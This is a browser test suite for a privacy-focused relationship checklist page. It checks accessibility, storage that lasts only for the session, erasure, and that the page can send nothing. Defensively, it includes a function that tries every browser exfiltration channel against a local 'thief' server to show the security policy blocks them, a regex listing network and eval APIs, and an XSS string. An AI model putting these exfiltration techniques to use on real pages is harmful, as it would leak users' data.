// The checklist on screen: whole without scripts, ticks that stay in the tab, an erase that erases, and a page that can send nothing.
import { after, afterEach, before, beforeEach, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { all, attribute, builtSite, meta, pagesOf, tag, text, withClass } from './support/site.mjs';
import { serve } from './support/server.mjs';
import { launch, open, settle } from './support/browser.mjs';
import { none } from './support/list.mjs';

const folder = builtSite();
const pages = pagesOf(folder);
const source = pages.find(({ url }) => url === '/checklist/');
const signs = pages.filter(({ kind }) => kind === 'sign');
const practices = pages.filter(({ kind }) => kind === 'practice');
const items = all(source.tree, withClass('item'));
let browser, server, visit, page;

before(async () => { server = await serve(folder, { '/unguarded/': '<!doctype html><title>No policy</title>' }); browser = await launch(); });
beforeEach(async () => { visit = await open(browser, server.origin + '/checklist/'); page = visit.page; });
afterEach(() => visit.close());
after(async () => { await browser?.close(); await server?.close(); });

const boxes = () => page.locator('form input[type=checkbox]');
const ticked = () => page.locator('form input:checked').count();
const kept = () => page.evaluate(async () => ({
  session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie,
  databases: (await indexedDB.databases()).map(({ name }) => name), caches: 'caches' in window ? await caches.keys() : [],
}));
async function tick(...ids) {
  for (const id of ids) await page.locator(`[id="${id}"]`).check();
}
/** The ids of both boxes of a line, by its place. */
const pair = (i) => all(items[i], tag('input')).map((input) => attribute(input, 'id'));
async function tickAll() {
  for (const box of await boxes().all()) await box.check();
}

// ---- What is there

test('the checklist is whole without scripts: a line for every sign and every practice', () => {
  const statements = signs.map((sign) => text(all(sign.tree, withClass('pull'))[0]));
  const lines = items.map((item) => text(all(item, tag('legend'))[0]));
  assert.equal(signs.length, 8);
  assert.equal(practices.length, 10);
  assert.deepEqual([...lines].sort(), [...statements, ...practices.map(({ h1 }) => h1)].sort());
});

test('every line is a group of its own with two labelled boxes and a link to its page', () => {
  none(items.flatMap((item) => {
    const wrong = [];
    const ids = all(item, tag('input')).map((input) => attribute(input, 'id'));
    const labels = all(item, tag('label'));
    if (item.tagName !== 'fieldset' || !text(all(item, tag('legend'))[0])) wrong.push('no legend');
    if (ids.length !== 2 || !ids.every((id) => labels.some((label) => attribute(label, 'for') === id && text(label)))) wrong.push('a box without a label');
    if (!all(item, withClass('about')).some((about) => all(about, tag('a')).length === 1)) wrong.push('no link');
    return wrong.map((what) => `${attribute(item, 'data-title')}: ${what}`);
  }), 'wrong lines');
});

test('nothing is ticked beforehand, and nothing must be', async () => {
  none(items.flatMap((item) => all(item, tag('input')).filter((input) => ['checked', 'required'].some((name) => attribute(input, name) !== null))), 'ticked in the source');
  assert.equal(await ticked(), 0);
  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
});

test('the safety note stands above the first line, whatever is ticked', async () => {
  const note = page.locator('.safety');
  const before = await note.innerText();
  assert.ok((await note.boundingBox()).y < (await boxes().first().boundingBox()).y);
  await tickAll();
  assert.equal(await note.innerText(), before);
  assert.ok(await note.isVisible());
});

test('every box is at least 44 px wide and high, on a telephone too', async () => {
  for (const width of [1280, 320]) {
    await page.setViewportSize({ width, height: 700 });
    const small = await page.evaluate(() => [...document.querySelectorAll('form input[type=checkbox], .boxes label')].map((element) => {
      const box = element.getBoundingClientRect();
      return { what: element.id || element.htmlFor, box, isLabel: element.tagName === 'LABEL' };
    }).filter(({ box, isLabel }) => box.height < 44 || (!isLabel && box.width < 44)).map(({ what, box }) => `${what} ${box.width} × ${box.height}`));
    none(small, `too small at ${width} px`);
  }
});

test('a label ticks its own box, and the space bar does', async () => {
  const [first, second] = pair(0);
  await page.locator(`label[for="${second}"]`).click();
  assert.deepEqual(await page.locator('form input:checked').evaluateAll((list) => list.map(({ id }) => id)), [second]);
  await page.locator(`[id="${first}"]`).press(' ');
  assert.equal(await ticked(), 2);
});

// ---- What leaves: nothing

test('ticking makes no request, leaves the address and the history alone, and sets no cookie', async () => {
  const state = () => page.evaluate(() => [location.href, history.length, document.title]);
  const before = await state();
  const asked = visit.trouble.requests.length;
  await tickAll();
  await settle(page);
  assert.deepEqual(await state(), before);
  assert.deepEqual(visit.trouble.requests.slice(asked), []);
  assert.deepEqual(visit.trouble.foreign, []);
  const { session, ...elsewhere } = await kept();
  assert.deepEqual(elsewhere, { local: {}, cookie: '', databases: [], caches: [] });
  assert.equal(Object.keys(session).length, 1);
});

test('the form has no address and no names: it could send nothing even if it were sent', async () => {
  await tickAll();
  assert.equal(await page.evaluate(() => new URLSearchParams(new FormData(document.querySelector('form'))).toString()), '');
  assert.equal(await page.locator('form').getAttribute('action'), null);
  assert.equal(await page.locator('form').getAttribute('autocomplete'), 'off');
});

test('the scripts of the page know no way out', () => {
  const ways = /fetch|XMLHttp|WebSocket|EventSource|sendBeacon|RTCPeer|location|history|\bopen\s*\(|\.submit\b|innerHTML|outerHTML|insertAdjacent|document\.write|eval|Function\s*\(|import\s*\(|new Image|cookie|postMessage/;
  const scripts = all(source.tree, tag('script')).map((script) => attribute(script, 'src')).filter(Boolean);
  assert.ok(scripts.length > 0);
  none(scripts.flatMap((src) => fs.readFileSync(path.join(folder, src), 'utf8').split('\n').filter((line) => ways.test(line.replace(/\/\/.*|\/\*.*?\*\//g, ''))).map((line) => `${src}: ${line.trim()}`)), 'ways out');
});

/** Every way in which a page can send something; each carries its name to the thief. */
function sendEverywhere(thief) {
  const add = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    (document.body ?? document.documentElement).append(element);
    return element;
  };
  fetch(thief + 'fetch', { mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(thief + 'beacon', 'a-not-listening');
  new Image().src = thief + 'image';
  new EventSource(thief + 'events').onerror = (event) => event.target.close();
  try { new WebSocket(thief.replace('http', 'ws') + 'socket'); } catch { /* refused at once */ }
  add('link', { rel: 'stylesheet', href: thief + 'style' });
  add('script', { src: thief + 'script' });
  add('iframe', { src: thief + 'frame' });
  add('object', { data: thief + 'object' });
  add('video', { src: thief + 'media' });
  const frame = add('iframe', { name: 'aside' });
  frame.removeAttribute('src');
  add('form', { action: thief + 'form', method: 'post', target: 'aside' }).submit();
}

test('code smuggled into the page could send nothing: no request, no beacon, no picture, no form, no socket', { timeout: 30_000 }, async () => {
  const ways = ['fetch', 'beacon', 'image', 'events', 'socket', 'style', 'script', 'frame', 'object', 'media', 'form'];
  const thief = await listen(ways);
  const context = await browser.newContext();
  const guarded = await context.newPage();
  await guarded.goto(server.origin + '/checklist/');
  await guarded.evaluate(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.blockedURI));
  });
  await guarded.evaluate(sendEverywhere, thief.address);
  await guarded.waitForFunction((count) => window.refused.length >= count, ways.length);
  assert.deepEqual([...thief.arrived], [], 'something arrived');

  // Without a policy all of it arrives; else this test would be blind.
  const unguarded = await context.newPage();
  await unguarded.goto(server.origin + '/unguarded/');
  await unguarded.evaluate(sendEverywhere, thief.address);
  await thief.all;
  await context.close();
  thief.close();
});

/** A foreign server that remembers what reached it; `all` is kept once every one of the ways did. */
async function listen(ways) {
  const arrived = new Set();
  let enough;
  const complete = new Promise((resolve) => { enough = resolve; });
  const note = (request) => { arrived.add(request.url.slice(1)); if (ways.every((way) => arrived.has(way))) enough(); };
  const thief = http.createServer((request, response) => { note(request); response.end(); });
  thief.on('upgrade', (request, socket) => { note(request); socket.destroy(); });
  await new Promise((listening) => thief.listen(0, '127.0.0.1', listening));
  const close = () => { thief.closeAllConnections(); thief.close(); };
  return { address: `http://127.0.0.1:${thief.address().port}/`, arrived, all: complete, close };
}

// ---- What stays

test('ticks survive a reload and a way to another page and back', async () => {
  const ids = [pair(0)[0], pair(3)[1], pair(9)[0]];
  const now = () => page.locator('form input:checked').evaluateAll((list) => list.map(({ id }) => id));
  await tick(...ids);
  await page.reload();
  assert.deepEqual((await now()).sort(), [...ids].sort());
  await page.goto(server.origin + '/about/');
  await page.goBack();
  assert.deepEqual((await now()).sort(), [...ids].sort());
});

test('ticks are seen in no other tab', async () => {
  await tickAll();
  const other = await visit.context.newPage();
  await other.goto(server.origin + '/checklist/');
  assert.equal(await other.locator('form input:checked').count(), 0);
});

test('erase leaves no tick, no key and no summary, now and after a reload, and says so', async () => {
  await tickAll();
  await page.locator('#erase').click();
  const gone = async () => {
    assert.equal(await ticked(), 0);
    assert.deepEqual(await kept(), { session: {}, local: {}, cookie: '', databases: [], caches: [] });
    assert.equal(await page.locator('#hearth--shared').isVisible(), false);
    assert.equal(await page.locator('#hearth--shared-list').textContent(), '');
  };
  await gone();
  assert.match(await page.locator('[role=status]').innerText(), /erased/i);
  await page.reload();
  await gone();
  await page.goto(server.origin + '/about/');
  await page.goBack();
  await gone();
});

test('taking back the last tick leaves no key', async () => {
  const [first] = pair(0);
  await tick(first);
  await page.locator(`[id="${first}"]`).uncheck();
  assert.deepEqual((await kept()).session, {});
});

test('what is kept is only what this page can read: anything else is as nothing', async () => {
  for (const value of ['{', '"x"', '[1,null,{"a":1}]', '["<img src=x onerror=alert(1)>"]', 'null']) {
    await page.evaluate((text) => sessionStorage.setItem('betwixt.checklist.v1', text), value);
    await page.reload();
    assert.equal(await ticked(), 0);
  }
  assert.deepEqual(visit.trouble.console, []);
});

// ---- What both ticked

test('the summary names what both ticked, with what may help, and nothing that only one ticked', async () => {
  const both = [pair(1), pair(10)], one = pair(4)[0];
  await tick(...both.flat(), one);
  const named = await page.locator('#hearth--shared h3').allInnerTexts();
  assert.deepEqual(named, [1, 10].map((i) => text(all(items[i], tag('legend'))[0])));
  const suggested = await page.locator('#hearth--shared .suggestions a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  const practicesOfIt = all(all(items[1], withClass('suggestions'))[0], tag('a')).map((link) => attribute(link, 'href'));
  assert.deepEqual(suggested, practicesOfIt);
  assert.ok(suggested.length >= 2);
  assert.ok(!(await page.locator('#hearth--shared').innerText()).includes(text(all(items[4], tag('legend'))[0])));
});

test('the summary appears and goes with the ticks, and is announced politely', async () => {
  const [first, second] = pair(2);
  const status = page.locator('[role=status]');
  await tick(first);
  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
  assert.equal(await status.innerText(), '');
  await tick(second);
  assert.equal(await page.locator('#hearth--shared').isVisible(), true);
  assert.ok((await status.innerText()).length > 10);
  await page.locator(`[id="${first}"]`).uncheck();
  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
});

test('there is never a number, a score or a share, however much is ticked', async () => {
  const numbers = /\d|%|\b(score|points?|percent|total|result|compatib\w*|match(es)?)\b/i;
  for (const make of [tickAll, () => page.locator('#erase').click(), () => tick(...pair(0))]) {
    await make();
    const said = await page.locator('#hearth--shared, [role=status]').allInnerTexts();
    assert.doesNotMatch(said.join(' '), numbers);
  }
  assert.equal(await page.locator('meter, progress, output').count(), 0);
});

test('a tick and a shared tick can be told apart without colour', async () => {
  const [first, second] = pair(0);
  const looks = async () => (await page.locator('.item').first().screenshot()).toString('base64');
  await page.emulateMedia({ reducedMotion: 'reduce', forcedColors: 'active' });
  const shots = [await looks()];
  for (const id of [first, second]) { await tick(id); await settle(page); shots.push(await looks()); }
  assert.equal(new Set(shots).size, 3);
});

test('the print button prints', async () => {
  await page.evaluate(() => { window.print = () => { window.printed = true; }; });
  await page.locator('#hearth--print').click();
  assert.equal(await page.evaluate(() => window.printed), true);
});

test('buttons that need scripts are not there without them, and the way to paper is', async () => {
  const plain = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
  assert.equal(await plain.page.locator('form button:visible').count(), 0);
  assert.equal(await plain.page.locator('form input[type=checkbox]:visible').count(), 2 * items.length);
  assert.ok(await plain.page.locator('a[href="/checklist/sheet/"]').isVisible());
  await plain.close();
});

test('the page says what it keeps, and how to see that it sends nothing', async () => {
  const said = await page.locator('.private').innerText();
  assert.match(said, /connect-src/);
  assert.match(said, /switch off the network/);
  assert.match(meta(source, 'content-security-policy'), /connect-src 'none'/);
});
